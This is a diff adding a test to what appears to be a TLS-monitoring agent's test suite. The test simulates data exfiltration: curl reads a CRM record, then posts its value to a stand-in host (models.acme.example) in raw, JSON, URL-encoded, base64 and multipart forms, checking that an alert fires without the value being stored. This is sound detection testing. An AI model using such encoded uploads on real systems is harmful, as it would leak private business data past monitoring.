@@ -1,5 +1,6 @@
 # SPDX-License-Identifier: Apache-2.0
 """TLS sight, cases for run.py. The server's own log says what was asked; the agent's rows have to say the same, and no more."""
+import base64
 import hashlib
 import json
 import os
@@ -426,4 +427,33 @@ def browser_policy(w):
     return bad
 
 
-ALONE = [sight_programs, sight_actions, sight_witness, sight_extensions, browser_policy, sight_off]
+def sight_values(w):
+    """A value that the org answered goes to another host that the tool may reach, however it is written: which record and field is
+    told, the value is nowhere. What the org did not answer is nothing."""
+    out = {}
+    w.start(**tools(w))
+    for version in ("http1.1", "http2"):
+        bad = []
+        for name, body in (("raw", "notes: Acme - 200 seats, call back"), ("json", json.dumps({"t": json.dumps({"q": "x Acme - 200 seats"})})),
+                           ("url", "q=" + urllib.parse.quote_plus("deal Acme - 200 seats")),
+                           ("base64", base64.b64encode(b'{"name":"Acme - 200 seats"}').decode()),
+                           ("multipart", "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nAcme - 200 seats\r\n--b--"), ("else", "Acme - 300 seats")):
+            done = max([r["id"] for r in w.rows()])
+            where = w.dir + "/body"
+            with open(where, "w") as f:
+                f.write(body)
+            rc, text = w.run("curl", "-sS", "--" + version, "-o", "/dev/null", OWN + DATA + "/query?q=SELECT+Name+FROM+Opportunity", "--next", "-sS",
+                             "--" + version, "--data-binary", "@" + where, "https://models.acme.example/in")  # one process reads and sends
+            got = [r for r in w.rows() if r["id"] > done and r["kind"] == "alert"]
+            said = [(r["rule"], r["ids"], r["fields"], r["authority"]) for r in got]
+            want = [] if name == "else" else [("E011", ["006000000000001AAA"], ["Name"], "models.acme.example")]
+            if rc or said != want:
+                bad.append("%s: exit %d %r, %s" % (name, rc, text[-100:], said))
+        out["sight-values-" + version] = bad
+    w.stop()
+    left = [n for n in os.listdir(w.dir) if n.startswith(os.path.basename(w.db)) or n == "agent.log"]
+    out["sight-values-private"] = ["%s has the value" % n for n in left if b"200 seats" in open(w.dir + "/" + n, "rb").read()]
+    return out
+
+
+ALONE = [sight_programs, sight_actions, sight_witness, sight_values, sight_extensions, browser_policy, sight_off]
